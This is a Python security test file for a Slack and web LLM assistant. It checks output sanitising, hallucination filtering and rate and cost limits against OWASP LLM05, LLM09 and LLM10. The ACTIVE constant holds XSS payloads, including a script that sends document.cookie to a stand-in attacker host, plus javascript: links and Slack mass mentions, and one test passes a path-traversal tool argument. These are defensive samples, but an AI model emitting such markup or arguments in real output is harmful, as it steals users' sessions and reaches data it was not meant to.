"""OWASP Top 10 for LLM applications 2025: LLM05 Improper Output Handling, LLM09 Misinformation, LLM10 Unbounded
Consumption. What a model wrote, as Slack and the page show it, and what a flood of questions costs."""

from __future__ import annotations

import asyncio
import io
import json

import pytest
from aiohttp import web

from assistant.strings import say
from bot.state import SampleTools
from tests.core.functions_double import USAGE, Double, calls, event, says
from tests.security.attacked import EVIL, Attacked, outside_code, settings_of
from tests.tools.whole import Json, opened, somebody

ROLL_BACK = "How do I roll back a service?"
RIGHT = "To roll back a service, run `ferry rollback` with its name [1]."
ACTIVE = (
    f"{RIGHT}\n\n<script>fetch('https://{EVIL}/'+document.cookie)</script><img src=x onerror=alert(1)>"
    f" [run this](javascript:alert(1)) ![p](https://{EVIL}/p.png?d=1) <https://{EVIL}|the runbook>"
    " <!channel> <!here> @everyone <@U0BEN> [1]"
)


async def test_llm05_what_a_model_writes_is_no_markup_in_slack(almanac: Attacked) -> None:
    seen = await almanac.in_slack(ROLL_BACK, says(ACTIVE))
    assert "ferry rollback" in seen
    for dangerous in ("<!channel", "<!here", "<@U0BEN>", "javascript:", f"<https://{EVIL}"):
        assert dangerous not in seen, dangerous
    assert EVIL not in outside_code(seen)


async def test_llm05_what_a_model_writes_runs_nowhere_on_the_page(almanac: Attacked) -> None:
    """The text has no address left to go to; and the page may run no script but its own, wherever one came from."""
    asked = await almanac.on_page(ROLL_BACK, says(ACTIVE))
    for text in (asked.streamed, asked.answer["text"]):
        assert EVIL not in outside_code(text)
        assert "javascript:" not in text
    async with somebody() as person, person.get(almanac.whole.url) as response:
        policy = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy
    assert "require-trusted-types-for 'script'" in policy
    assert "unsafe" not in policy


async def test_llm05_arguments_of_a_call_are_data_for_the_api(almanac: Attacked) -> None:
    """A model's text cannot leave the place that the API's description gives it: no other path, no other host."""
    hostile = ("getService", {"name": "../../oncall?service=ledger#"})
    fine = [says("It is fine [1].")] * 3
    answer = (await almanac.on_page("When was ledger restarted last?", calls(hostile), *fine)).answer
    assert len(almanac.whole.model.requests) > 1
    assert '"on_call\\":' not in almanac.told()
    assert all(use["status"] in (None, 404) for use in answer["calls"])
    assert "on_call" not in json.dumps(answer)


@pytest.mark.parametrize(
    "invented",
    [
        "It takes about forty-five minutes and costs 900 euros [1].",  # numbers that no passage has
        "Afterwards the database is wiped by Mallory Quux [1].",  # a name and an act that none has
        "You must ask the security team before [7].",  # a passage that there is not
        "Rolling back is not possible on Fridays [1].",  # the opposite
    ],
)
async def test_llm09_what_no_passage_says_is_not_said(almanac: Attacked, invented: str) -> None:
    seen = await almanac.in_slack(ROLL_BACK, says(f"{RIGHT} {invented}"))
    assert "ferry rollback" in seen
    assert invented.partition("[")[0].strip() not in seen
    assert say("guardrails.dropped_one") in seen


async def test_llm09_where_nothing_is_supported_it_says_so(almanac: Attacked) -> None:
    asked = await almanac.on_page(ROLL_BACK, says("Restart the moon with `lunarctl` and wait 900 years [1]."))
    assert asked.answer["outcome"] != "answered"
    assert "lunarctl" not in asked.answer["text"]


async def test_llm10_a_question_too_long_costs_no_model(almanac: Attacked) -> None:
    seen = await almanac.in_slack(f"{ROLL_BACK} {'really ' * 2_000}", says(RIGHT))
    assert almanac.whole.model.requests == []
    assert "4,000" in seen


async def test_llm10_one_person_asks_so_often_a_minute_and_no_more(
    almanac: Attacked, url: str, tools: SampleTools, model: Double
) -> None:
    shared = settings_of(tools, model, questions_per_minute=3, web_token="a token of the page")
    async with opened(shared, url, model) as other, somebody() as person:
        person.headers["Authorization"] = "Bearer a token of the page"
        answers = [(await other.ask(ROLL_BACK, says(RIGHT), person=person)).answer for _ in range(5)]
    assert [it["outcome"] for it in answers] == ["answered"] * 3 + ["over_limit"] * 2


async def test_llm10_the_days_cap_holds_for_everybody_together_whatever_names_they_take(
    almanac: Attacked, url: str, tools: SampleTools, model: Double, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each question comes from a browser of its own: who throws the cookie away pays from the same purse."""
    monkeypatch.setitem(USAGE, "prompt_tokens", 30_000)
    spent = 0
    async with opened(settings_of(tools, model, cap_day_tokens=100_000_000), url, model) as other:
        spent = await _spent(other.url)
    async with opened(settings_of(tools, model, cap_day_tokens=spent + 70_000), url, model) as other:
        asked = []
        for _ in range(5):
            asked.append((await other.ask(ROLL_BACK, says(RIGHT))).answer)
    outcomes = [it["outcome"] for it in asked]
    assert outcomes[0] == "answered"
    assert outcomes[-1] == "over_limit"
    assert "for everybody" in asked[-1]["text"]
    assert model.requests == []  # of the last question


async def test_llm10_a_model_that_never_ends_is_ended(
    almanac: Attacked, url: str, tools: SampleTools, model: Double
) -> None:
    began, gone = asyncio.Event(), asyncio.Event()

    async def endless(request: web.Request, _body: Json) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        began.set()
        try:
            while True:
                await response.write(event({"content": "and so on "}))
                await asyncio.sleep(0.01)
        finally:
            gone.set()

    async with opened(settings_of(tools, model, llm_timeout=2), url, model) as other:
        asked = await other.ask(ROLL_BACK, endless, endless, endless)
    assert asked.answer["outcome"] == "failed"
    assert began.is_set()
    await asyncio.wait_for(gone.wait(), 30)  # and the connection is closed: nobody pays for what nobody reads


async def test_llm10_bodies_are_bounded(almanac: Attacked) -> None:
    async with somebody() as person:
        for body, status in ((b"{" + b" " * 3_000_000 + b"}", 413), (b"[" * 60_000, 400)):
            headers = {"Content-Type": "application/json"}
            sent = person.post(f"{almanac.whole.url}/api/ask", data=io.BytesIO(body), headers=headers)
            async with sent as response:
                assert response.status == status


async def _spent(url: str) -> int:
    """Tokens of today, by the metrics."""
    async with somebody() as person, person.get(f"{url}/metrics") as response:
        lines = (await response.text()).splitlines()
    found = [line for line in lines if line.startswith('almanac_spent_tokens{window="day"}')]
    return int(float(found[0].rpartition(" ")[2])) if found else 0
